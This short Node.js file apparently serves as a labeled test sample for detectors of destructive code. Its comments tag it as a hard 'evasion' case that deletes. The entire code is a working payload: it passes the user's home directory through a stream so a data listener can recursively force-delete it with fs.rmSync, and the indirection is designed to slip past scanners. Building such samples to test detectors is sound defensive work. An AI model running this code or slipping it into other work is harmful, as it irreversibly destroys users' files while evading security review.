// evasion: stream.Readable.from of a list held in a name; a once('data') listener deletes the chunk
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const os = require('os');
const stream = require('stream');

const targets = [`${os.homedir()}`];
const src = stream.Readable.from(targets);
src.once('data', function (chunk) {
  fs.rmSync(String(chunk), { recursive: true, force: true });
});
